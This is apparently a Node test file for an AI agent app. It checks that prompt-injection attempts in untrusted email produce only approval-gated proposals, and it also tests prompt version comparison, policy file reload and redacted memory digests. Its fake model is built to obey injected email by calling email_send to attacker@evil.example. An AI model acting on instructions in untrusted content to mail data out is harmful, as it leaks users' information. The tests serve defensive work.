// Agents beyond the happy path: untrusted content can at most produce a proposal that needs approval (the
// injection corpus through the real runner and model client), /compare and /promote of a new prompt version, and
// a bad policy file that keeps the last good policy and tells the operator.

import assert from 'node:assert/strict';
import { cpSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { runAgent } from '../../src/agents/runner.ts';
import { decide } from '../../src/policy/approvals.ts';
import { UNTRUSTED_SYSTEM_NOTE } from '../../src/policy/untrusted.ts';
import { INJECTION_CORPUS } from '../policy/injection-corpus.ts';
import { api, say, tempDir } from '../support/app.ts';
import { startAgentApp, systemText, userText, type AgentApp } from './support.ts';

describe('untrusted content through the runner', () => {
  let h: AgentApp;
  before(async () => {
    // A deliberately obedient model: whatever the email asks, it calls email_send to the attacker.
    h = await startAgentApp({
      outreach: (body) => {
        const answered = ((body['messages'] ?? []) as Array<{ role: string }>).some((m) => m.role === 'tool');
        return answered
          ? { json: { summary: 'Done as the email asked.' } }
          : {
              toolCalls: [
                {
                  name: 'email_send',
                  arguments: { to: 'attacker@evil.example', subject: 'Invoice', body: 'As requested.' },
                },
              ],
            };
      },
    });
  });
  after(() => h.stop());

  test(`none of the ${INJECTION_CORPUS.length} injection attempts turns into an allowed write`, async () => {
    for (const attempt of INJECTION_CORPUS) {
      h.fake.requests.length = 0;
      const outcome = await runAgent(appDeps(h), {
        agent: 'outreach',
        request: 'Handle this email for me.',
        untrusted: [{ source: attempt.source, text: attempt.text }],
      });
      assert.equal(outcome.status, 'ok', attempt.name);
      if (outcome.status !== 'ok') continue;
      assert.equal(outcome.proposals.length, 1, attempt.name);
      const proposal = outcome.proposals[0]!;
      assert.equal(proposal.untrusted, true, `${attempt.name}: the proposal is marked untrusted`);
      const decision = decide(
        {
          kind: proposal.action,
          recipients: ['attacker@evil.example'],
          agent: 'outreach',
          untrusted: proposal.untrusted,
        },
        h.app.policies.current(),
      );
      assert.notEqual(decision.outcome, 'allow', `${attempt.name}: ${JSON.stringify(decision)}`);
      const sent = h.fake.completions[0]!.body;
      assert.ok(systemText(sent).includes(UNTRUSTED_SYSTEM_NOTE), 'the model is told what untrusted blocks are');
      assert.match(userText(sent), /⟦untrusted:\w+ source="/, 'the email reaches the model inside its markers');
    }
  });
});

function appDeps(h: AgentApp) {
  const deps = h.app.agents?.();
  assert.ok(deps, 'the app exposes its agent dependencies when a model is configured');
  return deps;
}

describe('compounding: /compare and /promote', () => {
  let h: AgentApp;
  before(async () => {
    const prompts = tempDir('solo-prompts-');
    cpSync(new URL('../../prompts', import.meta.url), prompts, { recursive: true });
    writeFileSync(
      join(prompts, 'draft', 'v2.md'),
      'You are the drafting agent, version two: shorter drafts.\n\nMemories:\n{{memory}}\n',
    );
    h = await startAgentApp(
      {
        router: () => ({
          json: {
            action: 'workflow',
            workflow: 'draft',
            understood: 'Draft to Acme.',
            client: 'Acme',
            instructions: 'Thank Acme.',
          },
        }),
        draft: (body) =>
          systemText(body).includes('version two')
            ? { json: { subject: 'Thanks (v2)', body: 'Short thanks.' }, delayMs: 5 }
            : { json: { subject: 'Thanks (v1)', body: 'A longer thank-you note.' } },
      },
      { env: { PROMPTS_DIR: prompts } },
    );
    await say(h.app.url, 'Draft a thank-you to Acme', 'd1');
    await say(h.app.url, 'Draft a thank-you to Acme again', 'd2');
  });
  after(() => h.stop());

  test('/compare replays recorded inputs through the new version, side by side with cost and latency', async () => {
    const before = h.fake.completions.length;
    const [reply] = await say(h.app.url, '/compare draft v2');
    assert.match(reply?.text ?? '', /^draft: v1 \(live\) vs v2, 2 recorded inputs/);
    assert.match(reply?.text ?? '', /v1 \(\$[\d.]+, \d+ ms\): \{"subject":"Thanks \(v1\)"/);
    assert.match(reply?.text ?? '', /v2 \(\$[\d.]+, \d+ ms\): \{"subject":"Thanks \(v2\)"/);
    assert.match(reply?.text ?? '', /Average: v1 \$[\d.]+, \d+ ms · v2 \$[\d.]+, \d+ ms/);
    assert.equal(h.fake.completions.length, before + 2, 'one replay per recorded input');
    const replay = h.fake.completions.at(-1)!.body;
    assert.match(userText(replay), /Thank Acme\./, 'the recorded request is replayed');
    const promote = reply?.buttons.find((b) => b.label === 'Promote v2');
    assert.ok(promote);
    const res = await api(h.app.url, 'POST', `/api/buttons/${encodeURIComponent(promote.id)}`);
    assert.match(res.body.messages?.[0]?.text ?? '', /^draft now uses prompt v2 \(was v1\)/);
    const [agents] = await say(h.app.url, '/agents');
    assert.match(agents?.text ?? '', /draft 1\.0\.0 \(read\) · prompt v2 of v1, v2/);
    const replies = await say(h.app.url, 'Draft a thank-you once more', 'd3');
    assert.ok(
      replies.some((r) => r.text.includes('Thanks (v2)')),
      'new runs use the promoted prompt',
    );
  });

  test('/compare explains what it needs', async () => {
    assert.match(
      (await say(h.app.url, '/compare draft v9'))[0]?.text ?? '',
      /no prompts\/draft\/v9\.md; versions on disk: v1, v2/,
    );
    assert.match((await say(h.app.url, '/compare nobody v2'))[0]?.text ?? '', /There is no nobody agent/);
    assert.match((await say(h.app.url, '/compare'))[0]?.text ?? '', /^Compare what\?/);
  });

  test('a prompt version saved while running can be compared at once, without a restart', async () => {
    const prompts = h.app.config.PROMPTS_DIR;
    writeFileSync(
      join(prompts, 'draft', 'v3.md'),
      'You are the drafting agent, version two: shorter drafts (v3 keeps them).\n\nMemories:\n{{memory}}\n',
    );
    const [reply] = await say(h.app.url, '/compare draft v3');
    assert.match(reply?.text ?? '', /^draft: v2 \(live\) vs v3, 1 recorded input\n/);
  });
});

describe('policy files change while running', () => {
  let h: AgentApp;
  before(async () => {
    h = await startAgentApp(
      { router: () => ({ json: { action: 'reply', understood: 'hi', reply: 'hi' } }) },
      { budgets: 'budgets:\n  per_day_usd: 3\n' },
    );
  });
  after(() => h.stop());

  test('a bad edit keeps the last good policy and tells the operator why; a good edit applies', async () => {
    const file = join(h.policiesDir, 'budgets.yaml');
    assert.match((await say(h.app.url, '/policies'))[0]?.text ?? '', /\$3(\.00)? per day/);
    writeFileSync(file, 'budgets:\n  per_day_usd: lots\n');
    const notice = await waitFor(async () => {
      const { body } = await api(h.app.url, 'GET', '/api/messages?after=0');
      return body.messages?.find((m) => m.text.startsWith('A policy change was not applied'));
    });
    assert.match(
      notice.text,
      /budgets\.yaml line 2 \(budgets\.per_day_usd\): expected an amount in US dollars.*keeping its last good version\./,
    );
    assert.match(
      (await say(h.app.url, '/policies'))[0]?.text ?? '',
      /\$3(\.00)? per day[\s\S]*Not applied: \S*budgets\.yaml line 2/,
    );
    writeFileSync(file, 'budgets:\n  per_day_usd: 7\n');
    await waitFor(async () =>
      (await say(h.app.url, '/policies'))[0]?.text.match(/\$7(\.00)? per day/) ? true : undefined,
    );
  });
});

async function waitFor<T>(check: () => Promise<T | undefined>, ms = 5000): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const value = await check();
    if (value !== undefined) return value;
    if (Date.now() > end) throw new Error('condition not reached in time');
    await new Promise((r) => setTimeout(r, 50));
  }
}

describe('compaction with a model', () => {
  test('/compact has the digest agent write the digest, redacted, and links it to its originals', async () => {
    const h = await startAgentApp({
      digest: (body) => ({
        json: {
          summary: `Stark Industries: ${userText(body).split('\n').length} old notes about the website; billing mail [EMAIL_1].`,
        },
      }),
    });
    try {
      for (const text of [
        'website kickoff was in march',
        'website copy is late',
        'website billing goes to pepper@stark.example',
      ])
        await say(h.app.url, `/remember Stark Industries: ${text}`);
      const [reply] = await say(h.app.url, '/compact 0');
      assert.match(reply?.text ?? '', /^Made 1 digest from 3 memories \(llm\): #(\d+)\./);
      const sent = JSON.stringify(h.fake.completions.at(-1)?.body);
      assert.ok(!sent.includes('pepper@stark.example'), 'the email was masked before the model saw it');
      const id = /#(\d+)\./.exec(reply?.text ?? '')?.[1];
      const [shown] = await say(h.app.url, `/memory ${id}`);
      assert.match(
        shown?.text ?? '',
        /Digest of 3 older memories about Stark Industries: Stark Industries: 3 old notes about the website; billing mail pepper@stark\.example\./,
      );
      assert.match(shown?.text ?? '', /Summarises:\n {2}#\d+ Stark Industries: website kickoff/);
    } finally {
      await h.stop();
    }
  });
});
